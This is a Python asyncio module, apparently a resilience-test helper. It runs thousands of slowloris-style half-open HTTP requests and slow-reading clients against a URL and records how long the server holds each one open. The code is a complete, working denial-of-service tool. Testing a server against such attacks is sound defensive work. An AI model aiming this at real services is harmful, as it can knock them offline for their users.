"""Thousands of clients that never finish a request, or hardly take an answer."""

import asyncio
import socket
import time
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

_BEGUN = b"GET /v1/jobs HTTP/1.1\r\nHost: a\r\nX-Slow: "
_LARGE = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 8
_TAKEN = 16  #: bytes a second of an answer
_EVERY_S = 10.0
"""How often each opens a connection at most; those of all are spread evenly."""


@dataclass(frozen=True)
class Attack:
    """So many of each, for some seconds; what is closed is opened again in its turn."""

    url: str
    half_open: int
    slow_readers: int
    seconds: float
    held_s: float  #: how long one that takes an answer slowly stays, also at the end


def attack(plan: Attack) -> list[float]:
    """Do it, and return how many seconds each half request was open."""
    return asyncio.run(_attack(plan))


async def _attack(plan: Attack) -> list[float]:
    end = time.monotonic() + plan.seconds
    lives: list[float] = []
    await asyncio.gather(
        *(_half_open(plan, number, end, lives) for number in range(plan.half_open)),
        *(_slow_reader(plan, number, end) for number in range(plan.slow_readers)),
    )
    return lives


async def _half_open(plan: Attack, number: int, end: float, lives: list[float]) -> None:
    await asyncio.sleep(_EVERY_S * number / plan.half_open)
    while time.monotonic() < end:
        began = time.monotonic()
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(*_address(plan))
            writer.write(_BEGUN)
            with suppress(OSError):
                await reader.read()  # a refusal, or nothing
            writer.close()
            lives.append(time.monotonic() - began)
        await asyncio.sleep(max(0.0, began + _EVERY_S - time.monotonic()))


async def _slow_reader(plan: Attack, number: int, end: float) -> None:
    await asyncio.sleep(_EVERY_S * number / plan.slow_readers)
    loop = asyncio.get_running_loop()
    while time.monotonic() < end:
        began = time.monotonic()
        with socket.socket() as connection, suppress(OSError):
            connection.setblocking(False)
            # Or it would take megabytes without being read.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            await loop.sock_connect(connection, _address(plan))
            await loop.sock_sendall(connection, _LARGE)
            for _ in range(int(plan.held_s)):
                await loop.sock_recv(connection, _TAKEN)
                await asyncio.sleep(1.0)
        await asyncio.sleep(max(0.0, began + _EVERY_S - time.monotonic()))


def _address(plan: Attack) -> tuple[str, int]:
    address = urlsplit(plan.url)
    return str(address.hostname), address.port or 0
